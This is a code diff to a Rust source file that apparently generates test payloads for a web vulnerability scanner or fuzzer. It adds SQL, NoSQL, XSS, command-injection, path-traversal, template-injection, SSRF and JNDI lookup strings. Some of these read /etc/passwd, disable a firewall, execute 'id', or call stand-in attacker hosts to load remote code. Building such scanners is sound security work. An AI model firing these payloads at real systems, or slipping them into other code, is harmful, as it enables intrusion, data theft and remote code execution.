@@ -25,6 +25,7 @@ pub(crate) fn fill(template: &str, random: &mut Random) -> String {
     ];
     text = text.replace("{c}", random.pick(&commands));
     let hosts = ["evil.example", "203.0.113.9:1389", "a.b.oast.example"];
+    text = text.replace("{d}", &random.below(255).to_string());
     text.replace("{h}", random.pick(&hosts))
 }
 
@@ -77,6 +78,16 @@ const SQL: &[&str] = &[
     "{n}/**/UNION/**/SELECT/**/1,2,3",
     "{n}' GROUP BY 1,2,3 HAVING 1=1-- ",
     "'+(SELECT 1)+'",
+    "ELT({n}={n},1)",
+    "{w} OR (SELECT {n} FROM (SELECT(SLEEP(5)))x)#",
+    "{w}' THEN 5 ELSE 5 END) AS a FROM (SELECT 1 AS b) c WHERE CAST(@@version AS int)=5-- x",
+    "{w}');CALL REGEXP_SUBSTRING(REPEAT('a',500000),NULL)--",
+    "1'-1/user--'",
+    "{n} AND {n}=CAST((SELECT current_user) AS int)",
+    "{w}' un<>ion sel<>ect 1,2,{n}-- ",
+    "{n}--x%0AOR--y%0A(SELECT {n})",
+    "%{n}%'%;%S%E%L%E%C%T% %S%L%E%E%P%(%5%)%-%-",
+    "{w}'+and+{n}={n}+--+",
 ];
 
 const NOSQL: &[&str] = &[
@@ -96,6 +107,8 @@ const NOSQL: &[&str] = &[
     "db.{t}.drop()",
     "0;var date=new Date(); do{cur = new Date();}while(cur-date<10000)",
     "{\"$expr\": {\"$eq\": [1, 1]}}",
+    "'; return '' == '",
+    "';it=new Date();do{pt=new Date();}while(pt-it<5000);",
 ];
 
 const XSS: &[&str] = &[
@@ -123,6 +136,12 @@ const XSS: &[&str] = &[
     "<ScRiPt >prompt({n})</sCrIpT>",
     "<form action=javascript:alert({n})><button>",
     "{w}<img src=1 href=1 onerror=\"javascript:alert({n})\"></img>",
+    "';top[/al/.source+/ert/.source]({n});//",
+    "[{n}].map(confirm)",
+    "top?.[\"al\"+\"ert\"]({n})",
+    "import('//{h}/x.js')",
+    "onfocus=;Function(`ale`+`rt({n})`)()",
+    "\"o<x>nmouseover=alert<x>({n})//",
 ];
 
 const COMMAND: &[&str] = &[
@@ -150,6 +169,16 @@ const COMMAND: &[&str] = &[
     "\"&&{c}&&\"",
     "; sleep 10",
     "<!--#exec cmd=\"{c}\" -->",
+    "||echo {n} >{w}.txt",
+    ";echo \"{n}\" >> /var/www/html/{w}.txt",
+    "\";exit(md5('{w}'));#",
+    "printf({n}*{n});",
+    "'\nexpr {n} - {n}\n'",
+    "{${phpinfo()}}",
+    "| netsh firewall set opmode disable",
+    "; c\\\\a\\\\t /etc/passwd",
+    "data:;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
+    "--- !ruby/object:Gem::Installer",
 ];
 
 const TRAVERSAL: &[&str] = &[
@@ -173,6 +202,8 @@ const TRAVERSAL: &[&str] = &[
     "/WEB-INF/web.xml",
     "..\\..\\..\\..\\boot.ini",
     "images/../../../../.git/config",
+    "C://Windows//win.ini",
+    "..//..//..//etc//passwd",
 ];
 
 const LDAP: &[&str] = &[
@@ -205,6 +236,8 @@ const XPATH: &[&str] = &[
     "//{t}/*",
     "1 or starts-with(//user/name,'a')",
     "' or last()=1 or '",
+    "{w} and substring(/lib/book[1]/title,1,1)='B'",
+    "{n} and string-length(name(/*[1]))={n}",
 ];
 
 const TEMPLATE: &[&str] = &[
@@ -228,6 +261,8 @@ const TEMPLATE: &[&str] = &[
     "{{7*'7'}}",
     "<%= system('id') %>",
     "@({n}+{n})",
+    "{$smarty.version}",
+    "T(java.lang.Runtime).getRuntime()",
 ];
 
 const SSRF: &[&str] = &[
@@ -251,6 +286,12 @@ const SSRF: &[&str] = &[
     "jar:http://127.0.0.1!/x",
     "http://0/",
     "http://[fd00:ec2::254]/latest/",
+    "http://{w}@127.0.0.1:80@shop.example/",
+    "http://shop.example&@10.0.0.{d}#@shop.example/",
+    "http://425.510.425.510/",
+    "gopher://127.0.0.1:6379/_config set dir /var/www",
+    "jdbc:db2://a:1/b:clientRerouteServerListJNDIName=ldap://{h}/a",
+    "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/",
 ];
 
 const XXE: &[&str] = &[
@@ -273,6 +314,9 @@ const LOOKUP: &[&str] = &[
     "${${upper:j}${upper:n}di:ldap://{h}}",
     "{w}${jndi:ldaps://{h}/b}",
     "${jndi:${lower:l}${lower:d}ap://{h}/a}",
+    "$\\{$\\{::-j\\}ndi:rmi://{h}/a\\}",
+    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+    "${dns:address|{h}}",
 ];
 
 const SPLITTING: &[&str] = &[
@@ -283,5 +327,6 @@ const SPLITTING: &[&str] = &[
     "{w}\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
     "\r\nRCPT TO: <a@{h}>\r\n",
     "{w}%0d%0aSet-Cookie: a={n}",
+    "{w}\\r\\nSet-Cookie: a={n}",
     "{w}\u{560D}\u{560A}Set-Cookie: a={n}",
 ];
